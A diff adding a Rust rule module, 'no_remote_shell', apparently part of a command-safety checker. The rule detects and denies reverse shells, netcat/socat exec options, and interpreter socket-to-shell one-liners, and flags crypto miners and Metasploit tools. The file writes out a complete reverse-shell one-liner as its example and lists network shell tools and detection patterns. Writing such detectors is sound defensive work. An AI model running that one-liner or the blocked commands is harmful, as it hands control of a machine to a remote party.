@@ -1,0 +1,176 @@
+//! `no_remote_shell`: gives somebody elsewhere a shell on this machine.
+
+use super::concern::ProgramCall;
+use super::no_pipe_to_shell::code_has;
+use super::options::has_short;
+use super::pipelines::{INTERPRETERS, SHELLS, feeds, near};
+use super::{Concern, Decision, Rule, RuleJudge};
+use crate::script::{Script, SimpleCommand, Span, Word};
+
+pub(super) const RULE: Rule = Rule {
+    name: "no_remote_shell",
+    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC, miners",
+    message: "this gives somebody elsewhere a shell on this machine",
+    instead: "Use ssh, which asks who is there",
+    example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    judge: RuleJudge::Both(
+        &[
+            Concern::Programs {
+                names: &[
+                    "nc",
+                    "ncat",
+                    "netcat",
+                    "nc.traditional",
+                    "nc.openbsd",
+                    "pwncat",
+                ],
+                judge: |call| {
+                    let runs = |word: &Word| {
+                        has_short(word, "ec", "pwsiIxXqT")
+                            || matches!(word.known(), Some("--exec" | "--sh-exec" | "--lua-exec"))
+                    };
+                    Decision::deny_if(call.words.iter().any(runs))
+                },
+            },
+            Concern::Programs {
+                names: &["socat"],
+                judge: |call| {
+                    let runs = |word: &Word| {
+                        let text = word.known_beginning().to_ascii_lowercase();
+                        text.starts_with("exec:") || text.starts_with("system:")
+                    };
+                    Decision::deny_if(call.words.iter().any(runs))
+                },
+            },
+            Concern::Programs {
+                names: &[
+                    "python*", "perl", "ruby", "php", "node", "lua", "awk", "gawk",
+                ],
+                judge: by_code,
+            },
+            Concern::Programs {
+                names: &[
+                    "xmrig",
+                    "minerd",
+                    "cpuminer",
+                    "ethminer",
+                    "t-rex",
+                    "nbminer",
+                    "cgminer",
+                    "bfgminer",
+                    "msfvenom",
+                    "msfconsole",
+                ],
+                judge: |_| Decision::Ask,
+            },
+        ],
+        judge,
+    ),
+};
+
+fn by_code(call: &ProgramCall<'_>) -> Decision {
+    let connects = code_has(
+        call.command,
+        &[
+            "socket",
+            "TCPSocket",
+            "fsockopen",
+            "net.connect",
+            "net.Socket",
+            "/inet/tcp/",
+            "IO::Socket",
+        ],
+    );
+    let gives = code_has(
+        call.command,
+        &[
+            "pty.spawn",
+            "dup2",
+            "/bin/sh",
+            "/bin/bash",
+            "exec(",
+            "child_process",
+            "cmd.exe",
+            "subprocess",
+        ],
+    );
+    Decision::deny_if(connects && gives)
+}
+
+/// Programs that speak to the network with what they read.
+const SPEAKING: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "socat",
+    "nc.traditional",
+    "nc.openbsd",
+];
+
+fn judge(script: &Script) -> Option<(Decision, Span)> {
+    let is_shell = |command: &SimpleCommand| {
+        command
+            .name()
+            .is_some_and(|name| SHELLS.contains(&name) || INTERPRETERS.contains(&name))
+    };
+    let by_redirect = script.commands.iter().find(|command| {
+        let opens = command
+            .redirects
+            .iter()
+            .any(|redirect| is_connection(&redirect.target));
+        opens && is_shell(command)
+    });
+    if let Some(command) = by_redirect {
+        return Some((Decision::Deny, command.span));
+    }
+    let kept = script.commands.iter().find(|command| {
+        let opens = command
+            .redirects
+            .iter()
+            .any(|redirect| is_connection(&redirect.target) && !is_local(&redirect.target));
+        opens && matches!(command.name(), Some("exec"))
+    });
+    if let Some(command) = kept {
+        return Some((Decision::Ask, command.span));
+    }
+    let speaks = |command: &&SimpleCommand| {
+        let name = command.name().unwrap_or_default();
+        SPEAKING.contains(&name)
+            || name == "openssl" && command.arguments().iter().any(|word| word.is("s_client"))
+    };
+    let mut commands = script.commands.iter().enumerate();
+    let shell = commands.find(|(at, command)| {
+        let is_bare = || {
+            let mut words = command.arguments().iter();
+            words.all(|word| word.known_beginning().starts_with('-') && !word.is("-c"))
+        };
+        let is_joined =
+            |speaker: &SimpleCommand| feeds(speaker, command) || feeds(command, speaker);
+        let is_in_pipeline = command.place.reads_pipe || is_before_pipe(script, *at);
+        is_shell(command)
+            && is_in_pipeline
+            && is_bare()
+            && near(script, *at).iter().filter(speaks).any(is_joined)
+    });
+    shell.map(|(_, command)| (Decision::Deny, command.span))
+}
+
+/// Whether the command after it reads from it.
+fn is_before_pipe(script: &Script, at: usize) -> bool {
+    let next = script.commands.get(at + 1);
+    next.is_some_and(|next| next.place.reads_pipe)
+}
+
+fn is_connection(word: &Word) -> bool {
+    let text = word.known_beginning();
+    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
+}
+
+fn is_local(word: &Word) -> bool {
+    let text = word.known_beginning();
+    ["localhost", "127.", "::1", "0.0.0.0"].iter().any(|host| {
+        text.strip_prefix("/dev/tcp/")
+            .is_some_and(|rest| rest.starts_with(host))
+    })
+}
